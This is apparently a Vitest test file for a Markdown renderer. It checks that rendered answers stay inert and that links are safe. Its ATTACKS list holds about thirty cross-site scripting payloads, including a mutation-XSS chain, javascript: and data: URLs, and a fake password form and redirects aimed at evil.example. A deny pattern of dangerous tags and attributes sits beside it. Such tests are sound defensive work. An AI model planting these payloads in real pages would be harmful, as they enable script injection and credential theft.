// @vitest-environment jsdom
import { describe, expect, test } from "vitest";
import { blocks, clean, nodesOf } from "../src/markdown/render";

function html(markdown: string): HTMLElement {
  const place = document.createElement("div");
  for (const block of blocks(markdown)) place.append(nodesOf(block));
  return place;
}

const DANGEROUS = "script, style, img, svg, math, iframe, object, embed, form, button, video, audio, link, meta, base, template";

function expectHarmless(place: ParentNode): void {
  expect(place.querySelectorAll(DANGEROUS)).toHaveLength(0);
  for (const node of place.querySelectorAll("*")) {
    for (const attribute of node.attributes) {
      expect(attribute.name).not.toMatch(/^on|style|srcdoc|formaction|xlink|^id$|^name$/i);
      if (attribute.name === "href") expect(attribute.value).toMatch(/^(https?:|mailto:)/i);
    }
  }
}

const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href=\"javascript:alert(1)\">x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#10;script:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "[x](/v1/session \"on mouse over\")",
  "[x](https://a.example/\"onmouseover=\"alert(1))",
  "![x](https://evil.example/pixel.png)",
  "![\"onerror=\"alert(1)](x)",
  "<https://ok.example/\"onclick=alert(1)>",
  "<javascript:alert(1)>",
  "[r]: javascript:alert(1)\n\n[r]",
  "```\"><script>alert(1)</script>\nx\n```",
  "```js\" onclick=\"alert(1)\nx\n```",
  "`<img src=x onerror=alert(1)>`",
  "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
  "- [x] <input onfocus=alert(1) autofocus>",
  "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
  "<style>*{display:none}</style>",
  "<div style=\"position:fixed;inset:0\" id=page>covered</div>",
  "<details open ontoggle=alert(1)>",
  "<base href=https://evil.example>",
  "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
];

describe("nothing in an answer does anything", () => {
  test.each(ATTACKS)("%s", (attack) => {
    expectHarmless(html(attack));
    expectHarmless(html(`text ${attack} text`));
    expectHarmless(html(`> ${attack.replaceAll("\n", "\n> ")}`));
  });

  test.each(ATTACKS)("nor if it were taken as HTML: %s", (attack) => expectHarmless(clean(attack)));

  test("HTML is shown as what it is", () => {
    expect(html("<b>bold</b> & <script>x</script>").textContent).toContain("<script>x</script>");
    expect(html("<div onclick=x>\nhello\n</div>").textContent).toContain("<div onclick=x>");
  });

  test("pictures become links that say where they lead", () => {
    const link = html("![a cat](https://cats.example/1.png)").querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://cats.example/1.png");
    expect(link?.textContent).toBe("a cat");
  });

  test("links open elsewhere and take nothing along", () => {
    const link = html("[site](https://ok.example/?a=1&b=2)").querySelector("a");
    expect(link?.href).toBe("https://ok.example/?a=1&b=2");
    expect(link?.rel).toBe("noopener noreferrer nofollow");
    expect(link?.target).toBe("_blank");
  });
});

describe("Markdown", () => {
  test("has lists, tables, code and ticks", () => {
    const place = html("# T\n\n1. a\n2. b\n\n| x | y |\n| --- | ---: |\n| 1 | 2 |\n\n```python\nprint('<b>')\n```\n\n- [x] done\n- [ ] not\n\n3. third");
    expect(place.querySelector("h1")?.textContent).toBe("T");
    expect(place.querySelectorAll("td")).toHaveLength(2);
    expect(place.querySelector("code")?.className).toBe("language-python");
    expect(place.querySelector("code")?.textContent).toBe("print('<b>')");
    expect([...place.querySelectorAll("input")].map((one) => [one.type, one.checked, one.disabled])).toEqual([
      ["checkbox", true, true],
      ["checkbox", false, true],
    ]);
    expect(place.querySelectorAll("ol")[1]?.start).toBe(3);
  });

  test("while it grows, finished pieces stay the same", () => {
    const text = "One *two*.\n\n```js\nlet a = 1\n```\n\nThree **four** five.";
    let before: string[] = [];
    for (let end = 1; end <= text.length; end++) {
      const now = blocks(text.slice(0, end)).map((block) => block.raw);
      const done = before.slice(0, -1).map((raw) => raw.trimEnd());
      expect(now.slice(0, done.length).map((raw) => raw.trimEnd())).toEqual(done);
      before = now;
    }
  });
});
